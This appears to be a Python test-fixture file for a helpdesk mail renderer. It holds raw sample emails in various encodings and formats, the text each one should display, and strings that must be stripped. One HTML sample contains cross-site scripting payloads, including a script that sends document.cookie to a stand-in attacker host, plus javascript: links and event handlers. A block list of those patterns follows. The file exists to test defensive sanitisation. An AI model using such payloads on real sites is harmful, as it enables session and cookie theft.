"""Real-shaped inbound messages, written byte for byte as the mail clients and servers write them.

Each entry: (name, raw bytes, text the desk must show, strings that must never reach the page).
"""

from __future__ import annotations

import base64
import quopri
from dataclasses import dataclass


@dataclass(frozen=True)
class Sample:
    name: str
    raw: bytes
    shows: tuple[str, ...]
    never: tuple[str, ...] = ()
    automatic: bool = False


def _lines(*lines: str | bytes) -> bytes:
    return b"\r\n".join(line.encode("ascii") if isinstance(line, str) else line for line in lines) + b"\r\n"


def _head(n: int, subject: str = "Printer question", sender: str = "Grace Hopper <grace@example.org>") -> list[str]:
    return [
        f"From: {sender}",
        "To: Support <support@localhost>",
        f"Subject: {subject}",
        "Date: Mon, 30 Nov 2026 10:00:00 +0000",
        f"Message-ID: <corpus-{n}@mail.example.org>",
        "MIME-Version: 1.0",
    ]


def _b64(data: bytes) -> str:
    return base64.encodebytes(data).decode("ascii")


GMAIL_REPLY = _lines(
    *_head(1, "Re: We've got your request [HD-1001] Printer prints blank pages"),
    'Content-Type: multipart/alternative; boundary="000000000000a1b2c3"',
    "",
    "--000000000000a1b2c3",
    'Content-Type: text/plain; charset="UTF-8"',
    "Content-Transfer-Encoding: quoted-printable",
    "",
    quopri.encodestring("Thanks, the new driver fixed it \u2014 merci beaucoup!\n\n".encode()).decode(),
    "On Mon, 30 Nov 2026 at 09:12, Support <support@localhost> wrote:",
    "> Hello Grace,",
    "> We've got your request and a person from our team will look at it.",
    "",
    "--000000000000a1b2c3",
    'Content-Type: text/html; charset="UTF-8"',
    "Content-Transfer-Encoding: quoted-printable",
    "",
    '<div dir=3D"ltr">Thanks, the new driver fixed it =E2=80=94 merci beaucoup!</div><div class=3D"gmail_quote">=',
    "</div>",
    "--000000000000a1b2c3--",
)

OUTLOOK_REPLY = _lines(
    *_head(2, "RE: We've got your request [HD-1001] Printer prints blank pages"),
    "Thread-Topic: We've got your request [HD-1001] Printer prints blank pages",
    "Thread-Index: AQHZabcdEfGhIjKlMnOpQrStUvWxYz==",
    "X-MS-Has-Attach:",
    'Content-Type: multipart/alternative; boundary="_000_DB9PR01MB1234_"',
    "",
    "--_000_DB9PR01MB1234_",
    'Content-Type: text/plain; charset="Windows-1252"',
    "Content-Transfer-Encoding: quoted-printable",
    "",
    "Yes, that=92s right =96 it still prints blank pages on the 2nd floor.",
    "",
    "________________________________",
    "From: Support <support@localhost>",
    "Sent: Monday, 30 November 2026 09:12",
    "",
    "--_000_DB9PR01MB1234_",
    'Content-Type: text/html; charset="Windows-1252"',
    "Content-Transfer-Encoding: quoted-printable",
    "",
    '<html><head><style>p.MsoNormal{margin:0}</style></head><body><p class=3D"MsoNormal">Yes, that=92s right =',
    "=96 it still prints blank pages on the 2nd floor.<o:p></o:p></p></body></html>",
    "--_000_DB9PR01MB1234_--",
)

BASE64_UTF8 = _lines(
    *_head(3, "=?UTF-8?B?w5xiZXJ3ZWlzdW5n?="),
    "Content-Type: text/plain; charset=utf-8",
    "Content-Transfer-Encoding: base64",
    "",
    _b64("Die Überweisung ist noch nicht angekommen.\n".encode()),
)

LATIN1 = _lines(
    *_head(4, "=?iso-8859-1?q?Caf=E9_machine?="),
    "Content-Type: text/plain; charset=iso-8859-1",
    "Content-Transfer-Encoding: 8bit",
    "",
    "La machine à café du 3e étage est en panne, señor.".encode("iso-8859-1"),
)

CP1252 = _lines(
    *_head(5),
    "Content-Type: text/plain; charset=windows-1252",
    "Content-Transfer-Encoding: 8bit",
    "",
    "The invoice says \u201c€40\u201d but I paid \u20ac35 \u2013 please check.".encode("cp1252"),
)

ISO2022JP = _lines(
    *_head(6, "=?ISO-2022-JP?B?" + base64.b64encode("注文について".encode("iso-2022-jp")).decode() + "?="),
    "Content-Type: text/plain; charset=ISO-2022-JP",
    "Content-Transfer-Encoding: 7bit",
    "",
    "こんにちは、注文がまだ届きません。".encode("iso-2022-jp"),
)

WRONG_CHARSET = _lines(
    *_head(7),
    "Content-Type: text/plain; charset=us-ascii",
    "Content-Transfer-Encoding: 8bit",
    "",
    "A naïve question about the résumé upload.".encode(),
)

MISSING_CHARSET = _lines(
    *_head(8),
    "Content-Type: text/plain",
    "Content-Transfer-Encoding: 8bit",
    "",
    "Viele Grüße aus Köln".encode("iso-8859-1"),
)

UNKNOWN_CHARSET = _lines(
    *_head(9),
    "Content-Type: text/plain; charset=x-no-such-charset",
    "",
    "Unknown charset but plain words.",
)

NO_MESSAGE_ID = _lines(
    "From: grace@example.org",
    "To: support@localhost",
    "Subject: No id here",
    "",
    "Sent by an old script without a Message-ID.",
)

HTML_ONLY = _lines(
    *_head(11, "Newsletter-style question"),
    "Content-Type: text/html; charset=utf-8",
    "",
    "<html><head><title>x</title><script>alert('head')</script></head><body>",
    "<p>Hello <b>team</b>,</p><p>my account is locked.</p>",
    "<script>document.location='https://evil.example/steal?c='+document.cookie</script>",
    '<img src="https://tracker.example/pixel.gif" alt="">',
    '<p><a href="javascript:alert(1)">click here</a> for details</p>',
    '<p>Screenshot: <a href="https://files.example.org/shot.png">this one</a>,',
    ' <a href="mailto:it@example.org">it@example.org</a></p>',
    '<div onmouseover="alert(2)">Thanks</div></body></html>',
)

OUT_OF_OFFICE = _lines(
    *_head(12, "Automatic reply: We've got your request [HD-1001]"),
    "Auto-Submitted: auto-replied",
    "X-Auto-Response-Suppress: All",
    "Content-Type: text/plain; charset=utf-8",
    "",
    "I am out of the office until Monday with limited access to email.",
)

PDF_BYTES = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
WITH_ATTACHMENT = _lines(
    *_head(13, "Invoice attached"),
    'Content-Type: multipart/mixed; boundary="mixed"',
    "",
    "--mixed",
    "Content-Type: text/plain; charset=utf-8",
    "",
    "Here is the invoice you asked for.",
    "--mixed",
    'Content-Type: application/pdf; name="invoice-42.pdf"',
    'Content-Disposition: attachment; filename="invoice-42.pdf"',
    "Content-Transfer-Encoding: base64",
    "",
    _b64(PDF_BYTES),
    "--mixed--",
)

REFUSED_EXE = _lines(
    *_head(14, "Please run this"),
    'Content-Type: multipart/mixed; boundary="mixed"',
    "",
    "--mixed",
    "Content-Type: text/plain; charset=utf-8",
    "",
    "The installer crashes, I attach it.",
    "--mixed",
    'Content-Type: application/octet-stream; name="setup.exe"',
    'Content-Disposition: attachment; filename="setup.exe"',
    "Content-Transfer-Encoding: base64",
    "",
    _b64(b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" * 8),
    "--mixed--",
)

# The desk page has its own <script src=... nonce=...> tags; the customer's bare one must not appear.
UNSAFE = ("<script>", "javascript:", "alert(", "evil.example", "tracker.example", "onmouseover")

CORPUS = [
    Sample("gmail-reply", GMAIL_REPLY, ("the new driver fixed it \u2014 merci beaucoup!",)),
    Sample("outlook-reply", OUTLOOK_REPLY, ("Yes, that\u2019s right \u2013 it still prints blank pages",)),
    Sample("base64-utf8", BASE64_UTF8, ("Die Überweisung ist noch nicht angekommen.", "Überweisung")),
    Sample("iso-8859-1", LATIN1, ("La machine à café du 3e étage est en panne, señor.", "Café machine")),
    Sample("windows-1252", CP1252, ("The invoice says \u201c€40\u201d but I paid €35 \u2013 please check.",)),
    Sample("iso-2022-jp", ISO2022JP, ("こんにちは、注文がまだ届きません。", "注文について")),
    Sample("wrong-charset", WRONG_CHARSET, ("A naïve question about the résumé upload.",)),
    Sample("missing-charset", MISSING_CHARSET, ("Viele Grüße aus Köln",)),
    Sample("unknown-charset", UNKNOWN_CHARSET, ("Unknown charset but plain words.",)),
    Sample("no-message-id", NO_MESSAGE_ID, ("Sent by an old script without a Message-ID.",)),
    Sample(
        "html-only",
        HTML_ONLY,
        (
            "Hello team,\n\nmy account is locked.",
            "click here for details",
            "Screenshot: this one (https://files.example.org/shot.png), it@example.org",
        ),
        UNSAFE,
    ),
    Sample("out-of-office", OUT_OF_OFFICE, ("I am out of the office until Monday",), automatic=True),
    Sample("attachment", WITH_ATTACHMENT, ("Here is the invoice you asked for.", "invoice-42.pdf")),
    Sample(
        "refused-exe",
        REFUSED_EXE,
        ("The installer crashes, I attach it.", "Attachment refused: setup.exe (not an allowed type)"),
    ),
]
